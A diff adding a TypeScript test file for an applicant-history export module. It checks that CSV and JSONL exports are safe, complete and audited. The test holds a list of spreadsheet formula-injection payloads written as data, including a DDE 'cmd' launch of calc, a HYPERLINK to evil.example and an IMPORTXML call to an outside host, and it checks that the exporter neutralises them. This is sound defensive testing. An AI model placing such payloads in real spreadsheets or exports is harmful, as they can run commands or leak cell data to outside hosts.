@@ -1,0 +1,131 @@
+/** Exports out of a real store into real files: harmless in a spreadsheet, lossless in JSON, whole or not there. */
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { afterEach, beforeEach, describe, expect, test } from 'vitest'
+import type { ExportProgress } from '#contract/keeping.ts'
+import type { RecordDetail } from '#contract/records.ts'
+import { createExports, type Exports } from '#core/exports/exports.ts'
+import { openHistory, type OpenHistory } from '#core/history/open.ts'
+import { launchInNode } from '#core/workers/node.ts'
+import { answer, clock, intentOf, lost, secretsInMemory } from './history-fixtures.ts'
+
+const exportId = '00000000-0000-4000-8000-0000000000ee'
+let folder: string
+let store: OpenHistory
+let exports: Exports
+let path: string | undefined
+let progress: ExportProgress[]
+let notes: object[]
+
+beforeEach(async () => {
+  folder = mkdtempSync(join(tmpdir(), 'veridesk-export-'))
+  const opened = await openHistory({ folder: join(folder, 'history'), secrets: secretsInMemory(), launch: launchInNode(), clock, kept: 'sitting' })
+  if (!opened.ok) throw new Error(opened.failure.what)
+  store = opened.value.store
+  path = join(folder, 'out.csv')
+  progress = []
+  notes = []
+  exports = createExports({
+    clock, consoleVersion: 'test', store: () => ({ ok: true, value: store }), chooseSavePath: async () => path,
+    trail: { note: async (note) => void notes.push(note) }, progress: (each) => void progress.push(each)
+  })
+})
+afterEach(async () => {
+  await store.close()
+  rmSync(folder, { recursive: true, force: true })
+})
+
+async function check(applicant: string, message?: string): Promise<string> {
+  const begun = await store.begin(intentOf({ applicant, operation: 'get-applicant-details' }))
+  if (!begun.ok) throw new Error(begun.failure.what)
+  await store.finish(begun.value.id, message === undefined ? lost : answer(message))
+  return begun.value.id
+}
+const rowsOf = (file: string): Record<string, string>[] => parse(readFileSync(file), { columns: true, bom: true }) as Record<string, string>[]
+const linesOf = <T = Record<string, unknown>>(file: string): T[] => readFileSync(file, 'utf8').trimEnd().split('\n').map((line) => JSON.parse(line) as T)
+
+const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\uff1d', '\uff0b', '\uff0d', '\uff20']
+const tails = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example","x")', 'SUM(A1:A9)', '"quoted", and more', 'IMPORTXML(CONCAT("http://x/",A1),"//a")', 'a\r\n=b']
+const payloads = signs.flatMap((sign) => tails.map((tail) => sign + tail))
+
+describe('the history', () => {
+  test('holds no cell that a spreadsheet would run, and every text whole in JSON', async () => {
+    for (const payload of payloads) await check('APP-1', payload)
+    const csv = await exports.history({ exportId, filter: {}, format: 'csv' })
+    expect(csv).toMatchObject({ ok: true, value: { rows: payloads.length } })
+    const text = readFileSync(path!, 'utf8')
+    const cells = (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat()
+    expect(cells.filter((cell) => /^[\s\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(cell))).toEqual([])
+    const messages = rowsOf(path!).slice(0, -1).map((row) => row['message'])
+    expect(messages).toEqual(payloads.map((payload) => `'${payload}`))
+    path = join(folder, 'out.jsonl')
+    await exports.history({ exportId, filter: {}, format: 'jsonl' })
+    const records = linesOf<RecordDetail>(path).slice(1, -1)
+    expect(records.map(({ fullMessage }) => fullMessage)).toEqual(payloads)
+    for (const record of records) expect(record).toEqual(JSON.parse(JSON.stringify({ ...(await whole(record.id)), previous: undefined })))
+  })
+
+  async function whole(id: string): Promise<RecordDetail> {
+    const found = await store.record(id)
+    if (!found.ok) throw new Error(found.failure.what)
+    return found.value
+  }
+
+  test('names the chain’s head, keeps to its filter, and leaves an event', async () => {
+    for (let n = 0; n < 450; n += 1) await check(`APP-${n}`, n % 3 ? 'Accepted' : undefined)
+    const head = await store.audit.head()
+    path = join(folder, 'out.jsonl')
+    const done = await exports.history({ exportId, filter: { states: ['unknown'] }, format: 'jsonl' })
+    if (!done.ok || !done.value || !head.ok) throw new Error('no export')
+    const lines = linesOf(path)
+    expect(lines[0]).toMatchObject({ format: 'veridesk-history', head: { seq: head.value.seq, hash: head.value.hash } })
+    expect(lines.at(-1)).toEqual({ end: true, rows: 150 })
+    const seqs = lines.slice(1, -1).map((line) => line['seq'] as number)
+    expect(seqs).toEqual([...seqs].sort((a, b) => a - b))
+    expect(new Set(seqs).size).toBe(150)
+    expect(done.value).toMatchObject({ rows: 150, bytes: readFileSync(path).length, head: { seq: head.value.seq } })
+    expect(notes).toMatchObject([{ kind: 'export.made', plain: { what: 'history', rows: 150, sha256: done.value.sha256 } }])
+    expect(progress.at(-1)).toEqual({ exportId, done: 150, total: 150 })
+    path = join(folder, 'out.csv')
+    await exports.history({ exportId, filter: { search: 'APP-44' }, format: 'csv' })
+    const rows = rowsOf(path)
+    expect(rows.slice(0, -1).map((row) => row['applicant_id'])).toEqual(['APP-44', ...Array.from({ length: 10 }, (_, n) => `APP-44${n}`)])
+    expect(Object.values(rows.at(-1)!).slice(0, 3)).toEqual(['# rows 11', expect.stringMatching(/^# chain event \d+$/), `# chain head ${head.value.hash}`])
+  })
+
+  test('that is stopped or cannot be written leaves the file that was there', async () => {
+    for (let n = 0; n < 650; n += 1) await check(`APP-${n}`, 'Accepted')
+    writeFileSync(path!, 'before')
+    const stopping = createExports({
+      clock, consoleVersion: 'test', store: () => ({ ok: true, value: store }), chooseSavePath: async () => path,
+      trail: { note: async () => undefined }, progress: ({ exportId: id }) => void stopping.stop(id)
+    })
+    expect(await stopping.history({ exportId, filter: {}, format: 'csv' })).toMatchObject({ ok: false, failure: { code: 'export-stopped' } })
+    expect(readFileSync(path!, 'utf8')).toBe('before')
+    expect(exports.stop(exportId)).toBe(false)
+    path = join(folder, 'locked', 'out.csv')
+    expect(await exports.history({ exportId, filter: {}, format: 'csv' })).toMatchObject({ ok: false, failure: { code: 'file-unwritable' } })
+    mkdirSync(join(folder, 'locked'))
+    chmodSync(join(folder, 'locked'), 0o500)
+    if (process.getuid?.() !== 0) await exports.history({ exportId, filter: {}, format: 'csv' })
+    chmodSync(join(folder, 'locked'), 0o700)
+    expect(existsSync(path)).toBe(false)
+    expect(readdirSync(folder).filter((name) => name.startsWith('.'))).toEqual([])
+    path = undefined
+    expect(await exports.history({ exportId, filter: {}, format: 'csv' })).toEqual({ ok: true, value: null })
+  })
+})
+
+test('applicants come with their timeline', async () => {
+  await check('00042', 'Accepted')
+  await check('=1+1', 'Accepted')
+  await store.applicants.note('00042', 'A note', { at: Date.now(), operator: 'tester' })
+  await exports.applicants({ exportId, format: 'csv' })
+  expect(rowsOf(path!).map((row) => row['applicant_id']).slice(0, -1).sort()).toEqual(["'=1+1", '00042'])
+  path = join(folder, 'out.jsonl')
+  expect(await exports.applicants({ exportId, format: 'jsonl' })).toMatchObject({ ok: true, value: { rows: 2 } })
+  const applicant = linesOf(path).find((line) => line['id'] === '00042') as { timeline: { kind: string }[] }
+  expect(applicant.timeline.map(({ kind }) => kind)).toEqual(['note', 'check'])
+})
